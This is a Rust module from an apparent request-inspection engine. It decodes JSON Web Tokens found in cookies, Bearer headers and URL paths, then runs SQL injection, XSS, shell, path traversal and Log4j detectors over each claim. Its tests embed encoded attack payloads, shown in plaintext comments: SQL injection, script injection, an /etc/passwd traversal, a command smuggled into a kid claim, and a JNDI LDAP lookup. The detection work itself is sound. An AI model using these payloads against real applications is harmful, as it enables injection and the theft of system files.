//! Attacks inside a JSON Web Token: an application decodes the token's
//! parts (base64url, `header.payload.signature`) and uses the claims —
//! `kid` as a file path or a database key, `sub` or `role` in a query, a
//! name logged or rendered — so a claim is input like a query value. The
//! token arrives as a cookie, a parameter, an `Authorization: Bearer`
//! header or a segment of the request path (a link's token); the value,
//! the word after an authentication scheme or a path segment, when it
//! is a compact JWS or JWE (three or five parts, the first a JSON object:
//! base64 `ey…`), is
//! decoded part by part
//! (`transform::base64::decode_jose`), and each JSON string of the decoded
//! parts (its escapes decoded) is read by one of the native detectors.
//! A value without a `.` holds no token.

use super::{log4j, path, shell, sqli, xss, Triggers};
use crate::transform::base64::{decode_jose, jose_head};
use crate::transform::Transform;
use std::cell::RefCell;
use std::ops::Range;

/// A compact token has a dot between its parts.
pub(crate) const TRIGGERS: Triggers = Triggers::new(b".");

/// Which detector reads the claims.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub(crate) enum Reader {
    Sqli,
    Xss,
    Shell,
    Path,
    Log4j,
}

impl Reader {
    fn hit(self, s: &[u8]) -> bool {
        match self {
            Reader::Sqli => sqli::detect(s).is_some(),
            Reader::Xss => xss::detect(s).is_some(),
            Reader::Shell => shell::detect(s).is_some(),
            Reader::Path => path::detect(s).is_some(),
            Reader::Log4j => log4j::detect(s).is_some(),
        }
    }
}

/// The token (as received) whose claims `reader` finds an attack in.
pub(crate) fn detect(v: &[u8], reader: Reader) -> Option<Range<usize>> {
    token_starts(v).find_map(|start| read_token(v, start, reader))
}

/// Where a token may start: the value's start (a cookie, a parameter),
/// the word after an authentication scheme (`Bearer eyJ…`), and each path
/// segment (`/reset/eyJ…`, `/verify/eyJ…/confirm`: links that carry their
/// token in the path).
fn token_starts(v: &[u8]) -> impl Iterator<Item = usize> + '_ {
    let after_blank = v.iter().position(|&b| b == b' ').and_then(|blank| {
        v[blank..]
            .iter()
            .position(|&b| b != b' ')
            .map(|p| blank + p)
    });
    std::iter::once(0).chain(after_blank).chain(
        v.iter()
            .enumerate()
            .filter(|&(_, &b)| b == b'/')
            .map(|(i, _)| i + 1),
    )
}

/// The token starting at `start` (up to a blank, `,`, `/`, `?`, `;` or
/// `#`, none of which base64url holds), if its claims hold an attack.
fn read_token(v: &[u8], start: usize, reader: Reader) -> Option<Range<usize>> {
    let word = &v[start..];
    let word = &word[..word
        .iter()
        .position(|&b| matches!(b, b' ' | b',' | b'/' | b'?' | b';' | b'#'))
        .unwrap_or(word.len())];
    if !jose_head(word) || !word.contains(&b'.') {
        return None;
    }
    with_decoded(word, |text| {
        claims(text?)
            .any(|s| {
                let decoded = s
                    .contains(&b'\\')
                    .then(|| Transform::JsDecode.apply(s))
                    .flatten();
                reader.hit(decoded.as_deref().unwrap_or(s))
            })
            .then_some(())
    })
    .map(|()| start..start + word.len())
}

thread_local! {
    /// The token last decoded on this thread, and its decoded parts: the
    /// five `jwt_*` rules read one field's token in turn, and decode it
    /// once (the key is compared byte for byte: a different token, or the
    /// same bytes in another request, decodes or answers the same).
    static LAST: RefCell<(Vec<u8>, Option<Vec<u8>>)> = const { RefCell::new((Vec::new(), None)) };
}

#[cfg(test)]
thread_local! {
    static DECODES: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
}

/// `f` of `decode_jose(word)`, decoded once for the same `word` in a row.
fn with_decoded<R>(word: &[u8], f: impl FnOnce(Option<&[u8]>) -> Option<R>) -> Option<R> {
    LAST.with(|last| {
        let mut last = last.borrow_mut();
        if last.0 != word {
            #[cfg(test)]
            DECODES.with(|n| n.set(n.get() + 1));
            last.0.clear();
            last.0.extend_from_slice(word);
            last.1 = decode_jose(word);
        }
        f(last.1.as_deref())
    })
}

/// The strings of the decoded parts (one per line): each JSON string's
/// content, escapes as written; a part that is not JSON, whole. Every
/// string is read (an IdP's token holds hundreds with its groups): the
/// strings are one pass over the decoded text, and each detector reads
/// its string in linear time, so a token costs time linear in its length.
fn claims(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    text.split(|&b| b == b'\n').flat_map(|part| {
        let json = matches!(part.first(), Some(b'{' | b'['));
        let whole = (!json).then_some(part);
        whole
            .into_iter()
            .chain(json.then(|| strings(part)).into_iter().flatten())
    })
}

/// The contents of the `"…"` strings of a JSON text (keys and values).
fn strings(json: &[u8]) -> impl Iterator<Item = &[u8]> {
    let mut i = 0;
    std::iter::from_fn(move || {
        let open = i + json.get(i..)?.iter().position(|&b| b == b'"')?;
        let mut j = open + 1;
        while let Some(&b) = json.get(j) {
            match b {
                b'\\' => j += 2,
                b'"' => break,
                _ => j += 1,
            }
        }
        let end = j.min(json.len());
        i = end + 1;
        Some(&json[open + 1..end])
    })
}

#[cfg(test)]
mod tests {
    use super::{detect, Reader};

    const ALL: [Reader; 5] = [
        Reader::Sqli,
        Reader::Xss,
        Reader::Shell,
        Reader::Path,
        Reader::Log4j,
    ];

    /// Signed tokens (header `{"alg":"HS256","typ":"JWT"}`), payload above each.
    #[test]
    fn claims_are_read_by_their_detector() {
        let cases = [
            // {"sub":"' or 1=1--"}
            (
                Reader::Sqli,
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiInIG9yIDE9MS0tIn0.c2ln",
            ),
            // {"role":"x' union select password from users--"}
            (
                Reader::Sqli,
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJyb2xlIjoieCcgdW5pb24gc2VsZWN0IHBhc3N3b3JkIGZyb20gdXNlcnMtLSJ9.c2ln",
            ),
            // {"name":"<script>alert(1)</script>"}
            (
                Reader::Xss,
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJuYW1lIjoiPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PiJ9.c2ln",
            ),
            // {"name":"\u003cimg src=x onerror=alert(1)\u003e"}
            (
                Reader::Xss,
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJuYW1lIjoiXHUwMDNjaW1nIHNyYz14IG9uZXJyb3I9YWxlcnQoMSlcdTAwM2UifQ.c2ln",
            ),
            // {"kid":"../../../../etc/passwd"}
            (
                Reader::Path,
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJraWQiOiIuLi8uLi8uLi8uLi9ldGMvcGFzc3dkIn0.c2ln",
            ),
            // {"kid":"key;cat /etc/passwd"}
            (
                Reader::Shell,
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJraWQiOiJrZXk7Y2F0IC9ldGMvcGFzc3dkIn0.c2ln",
            ),
            // {"user":"${jndi:ldap://x.example/a}"}
            (
                Reader::Log4j,
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ1c2VyIjoiJHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0ifQ.c2ln",
            ),
        ];
        for (r, t) in cases {
            assert!(detect(t.as_bytes(), r).is_some(), "{r:?} {t}");
            let bearer = format!("Bearer {t}");
            assert!(detect(bearer.as_bytes(), r).is_some(), "bearer {r:?} {t}");
        }
    }

    /// The five readers of one token decode it once; another token, then
    /// the first again, are decoded anew and read the same.
    #[test]
    fn a_token_is_decoded_once_for_its_readers() {
        let sqli = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiInIG9yIDE9MS0tIn0.c2ln";
        let path =
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJraWQiOiIuLi8uLi8uLi8uLi9ldGMvcGFzc3dkIn0.c2ln";
        let decodes = || super::DECODES.with(std::cell::Cell::get);
        for (t, hit) in [
            (sqli, Reader::Sqli),
            (path, Reader::Path),
            (sqli, Reader::Sqli),
        ] {
            let before = decodes();
            for r in ALL {
                let found = detect(t.as_bytes(), r).is_some();
                assert!(found || r != hit, "{r:?} {t}");
            }
            assert_eq!(decodes() - before, 1, "{t}");
        }
    }

    #[test]
    fn ordinary_tokens_pass() {
        for t in [
            // {"sub":"1234567890","name":"John O'Neil","iat":1516239022}
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gTydOZWlsIiwiaWF0IjoxNTE2MjM5MDIyfQ.c2ln",
            // {"iss":"https://auth.example.com/","aud":["api"],"scope":"read:orders write:cart"}
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJodHRwczovL2F1dGguZXhhbXBsZS5jb20vIiwiYXVkIjpbImFwaSJdLCJzY29wZSI6InJlYWQ6b3JkZXJzIHdyaXRlOmNhcnQifQ.c2ln",
            // {"user":"alice","role":"user","exp":1700000000}
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ1c2VyIjoiYWxpY2UiLCJyb2xlIjoidXNlciIsImV4cCI6MTcwMDAwMDAwMH0.c2ln",
            // {"email":"a.b@example.com","roles":["admin","editor"],"path":"/account/orders"}
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJlbWFpbCI6ImEuYkBleGFtcGxlLmNvbSIsInJvbGVzIjpbImFkbWluIiwiZWRpdG9yIl0sInBhdGgiOiIvYWNjb3VudC9vcmRlcnMifQ.c2ln",
        ] {
            for r in ALL {
                assert!(detect(t.as_bytes(), r).is_none(), "{r:?} {t}");
            }
        }
        // Not tokens.
        for v in ["GA1.2.3.4", "eyes.open", "a.b.c", "ey"] {
            assert!(detect(v.as_bytes(), Reader::Sqli).is_none(), "{v}");
        }
    }
}
